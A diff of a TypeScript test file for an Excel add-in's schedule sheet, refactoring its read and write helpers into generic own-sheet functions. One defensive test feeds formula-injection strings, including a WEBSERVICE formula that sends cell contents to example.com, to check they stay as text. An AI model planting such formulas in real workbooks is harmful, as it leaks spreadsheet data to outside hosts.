@@ -3,7 +3,8 @@ import { readRegister, readSchedule, type ScheduleLine, type SheetSettings, type
 import { usualBook } from "../../src/sync";
 import { matrixOf } from "../../taskpane/state/draft";
 import { keysOf } from "../../taskpane/state/write-outcomes";
-import { readScheduleSheet, writeScheduleSheet } from "../../taskpane/workbook/schedule-sheet";
+import { readOwnSheet, writeOwnSheet } from "../../taskpane/workbook/own-sheet";
+import { scheduleSheet } from "../../taskpane/workbook/schedule-sheet";
 import { writeLedgerIds } from "../../taskpane/workbook/write-ledger-ids";
 import { writePostingDates } from "../../taskpane/workbook/write-posting-dates";
 import { writeStatuses } from "../../taskpane/workbook/write-statuses";
@@ -57,13 +58,13 @@ describe("the schedule sheet, through the real office.js", () => {
   }
 
   test("a workbook without a schedule has none", async () => {
-    expect(valueOf(await readScheduleSheet())).toBeUndefined();
+    expect(valueOf(await readOwnSheet(scheduleSheet()))).toBeUndefined();
   });
 
   test("a written schedule is read back as it was, texts as texts", async () => {
     const matrix = matrixOf(january, [], settings);
-    expect(valueOf(await writeScheduleSheet(matrix))).toBe("Schedule");
-    const schedule = valueOf(await readScheduleSheet());
+    expect(valueOf(await writeOwnSheet(scheduleSheet(), matrix))).toBe("Schedule");
+    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
     expect(schedule?.place).toMatchObject({ sheet: "Schedule", row: 0, column: 0, rows: 3 });
     expect(await cells("A2:D3")).toEqual([
       ["A-001", 46053, "DEPRECIATION", 450],
@@ -72,9 +73,9 @@ describe("the schedule sheet, through the real office.js", () => {
   });
 
   test("rebuilding with fewer rows leaves nothing of the old ones", async () => {
-    valueOf(await writeScheduleSheet(matrixOf(january, [], settings)));
-    valueOf(await writeScheduleSheet(matrixOf(january.slice(0, 1), [], settings)));
-    expect(valueOf(await readScheduleSheet())?.place.rows).toBe(2);
+    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf(january, [], settings)));
+    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf(january.slice(0, 1), [], settings)));
+    expect(valueOf(await readOwnSheet(scheduleSheet()))?.place.rows).toBe(2);
     expect(await cells("A3:F3")).toEqual([["", "", "", "", "", ""]]);
   });
 
@@ -86,8 +87,8 @@ describe("the schedule sheet, through the real office.js", () => {
 
   test("text from elsewhere never becomes a formula", async () => {
     const nasty = line("=1+1", "2026-01-31", 1, '=WEBSERVICE("https://example.com/?"&A1)');
-    valueOf(await writeScheduleSheet(matrixOf([nasty], [], settings)));
-    const schedule = valueOf(await readScheduleSheet());
+    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf([nasty], [], settings)));
+    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
     if (schedule === undefined) throw new Error("There is a schedule.");
     const keys = await keysOf(schedule, settings);
     const statuses = new Map([...keys.values()].map((key) => [key, status(key, '=HYPERLINK("https://example.com")')]));
@@ -101,8 +102,8 @@ describe("the schedule sheet, through the real office.js", () => {
   });
 
   test("statuses find their rows after people sorted and inserted", async () => {
-    valueOf(await writeScheduleSheet(matrixOf(january, [], settings)));
-    const schedule = valueOf(await readScheduleSheet());
+    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf(january, [], settings)));
+    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
     if (schedule === undefined) throw new Error("There is a schedule.");
     const [first = "", second = ""] = [...(await keysOf(schedule, settings)).values()];
     const statuses = new Map([
@@ -127,26 +128,26 @@ describe("the schedule sheet, through the real office.js", () => {
   });
 
   test("the posting date goes to the rows of the keys, wherever they stand, and a rebuilt schedule keeps it", async () => {
-    valueOf(await writeScheduleSheet(matrixOf([...january].reverse(), [], settings)));
-    const schedule = valueOf(await readScheduleSheet());
+    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf([...january].reverse(), [], settings)));
+    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
     if (schedule === undefined) throw new Error("There is a schedule.");
     const key = [...(await keysOf(schedule, settings)).values()].find((each) => each.includes("A-001")) ?? "";
     const late = { keys: new Set([key]), firstOpen: day("2026-02-01") };
     expect(valueOf(await writePostingDates(late, "1900", usualBook, (now) => keysOf(now, settings)))).toBe(1);
     // 46054 is 2026-02-01, by Excel's own DATEVALUE.
     expect(await cells("J1:J3")).toEqual([["Posting date"], [""], [46_054]]);
-    const { lines } = readSchedule(valueOf(await readScheduleSheet())?.matrix ?? [], settings);
+    const { lines } = readSchedule(valueOf(await readOwnSheet(scheduleSheet()))?.matrix ?? [], settings);
     expect(matrixOf(january, lines, settings).map((row) => row[9])).toEqual(["Posting date", 46_054, ""]);
   });
 
   test("a schedule from before there were posting dates gets the column, to the right of everybody's", async () => {
-    valueOf(await writeScheduleSheet(matrixOf(january, [], settings)));
+    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf(january, [], settings)));
     await office.Excel.run(async (context) => {
       const sheet = context.workbook.worksheets.getItem("Schedule");
       sheet.getRange("J1:J1").values = [["Their own"]];
       await context.sync();
     });
-    const schedule = valueOf(await readScheduleSheet());
+    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
     if (schedule === undefined) throw new Error("There is a schedule.");
     const late = { keys: new Set((await keysOf(schedule, settings)).values()), firstOpen: day("2026-02-01") };
     expect(valueOf(await writePostingDates(late, "1900", usualBook, (now) => keysOf(now, settings)))).toBe(2);
@@ -173,8 +174,8 @@ describe("the schedule sheet, through the real office.js", () => {
 
   test("five thousand rows go in and out below Excel's limits", async () => {
     const lines = Array.from({ length: 5000 }, (_, index) => line(`A-${index}`, "2026-01-31", index + 1));
-    valueOf(await writeScheduleSheet(matrixOf(lines, [], settings)));
-    const schedule = valueOf(await readScheduleSheet());
+    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf(lines, [], settings)));
+    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
     expect(schedule?.matrix).toHaveLength(5001);
     expect(schedule?.matrix.at(-1)?.slice(0, 4)).toEqual(["A-4999", 46053, "DEPRECIATION", 5000]);
   }, 30_000);
